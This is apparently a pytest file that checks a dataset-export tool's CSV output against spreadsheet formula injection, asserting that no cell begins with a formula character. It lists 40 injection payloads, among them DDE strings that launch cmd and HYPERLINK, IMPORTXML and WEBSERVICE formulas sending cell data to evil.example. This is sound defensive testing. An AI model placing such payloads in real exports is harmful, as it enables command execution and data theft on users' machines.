"""Formulas in a run's texts: in a CSV that is exported no spreadsheet runs one, and each comes back as it was."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from charter.given import load_pairs
from charter.publishing import LAYOUTS, export_rows
from charter.records import Preference, Prompt, SftRow, make_prompt
from faults.points import point

pytestmark = pytest.mark.faults

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd", "/C calc", "x")',
    "=@SUM(1+1)*cmd|' /C calc'!A0",
    "=-2+3+cmd|' /C calc'!D2",
    '="a"&"b"',
    "={1,2}",
    "==1",
    "='=1'",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "++1",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "--1",
    "-",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "@",
    "\t=1+1",
    "\t\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "'=1+1",
    "''=1+1",
    "\x00=1+1",
    '"=1+1"',
    '","=1+1',
    "a\n=1+1",
)
#: What a cell must not begin with (OWASP, "CSV Injection", and ASVS 5.0, 1.2.10), and the wide forms of the signs.
_BEGINS = tuple("=+-@\t\r\x00\uff1d\uff0b\uff0d\uff20")


def _rows(formula: str) -> dict[str, list[object]]:
    prompt = make_prompt(formula, "red_team", id="p")
    other = f"{formula} and more"
    return {
        "prompts": [prompt],
        "sft": [SftRow(id="s", prompt=prompt, response=formula, origin="sampled")],
        "preferences": [
            Preference(
                id="f", prompt=prompt, chosen=formula, rejected=other, p_chosen=0.9, source="on_policy", verdicts=(),
                pair="p", chosen_side="a", p_judge=0.9, position_bias=0.0,
            )
        ],
    }  # fmt: skip


def test_the_formulas_are_what_they_are_said_to_be() -> None:
    """Forty of them, no two the same."""
    assert len(set(FORMULAS)) == len(FORMULAS) == 40


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_a_text_in_every_csv(tmp_path: Path, formula: str) -> None:
    """No cell begins as a formula does, or with what spreadsheets drop before one; the texts come back."""
    with point("spreadsheet formulas", repr(formula)) as tried:
        n_cells = 0
        for layout, parts in LAYOUTS.items():
            rows = {kind: some for kind, some in _rows(formula).items() if kind in parts}
            done = export_rows(rows, tmp_path / layout, layout)  # type: ignore[arg-type]
            for name in (one for one in done.files if one.endswith(".csv")):
                with (tmp_path / layout / name).open(encoding="utf-8", newline="") as file:
                    cells = [cell for row in csv.reader(file) for cell in row]
                n_cells += len(cells)
                assert [cell for cell in cells if cell.startswith(_BEGINS)] == []
        assert n_cells > 0
        (pair,) = load_pairs(tmp_path / "answer-improvement/preferences.csv").pairs
        assert isinstance(pair.prompt, Prompt)
        assert {pair.a, pair.b} == {formula, f"{formula} and more"}
        tried.outcome = "inert"
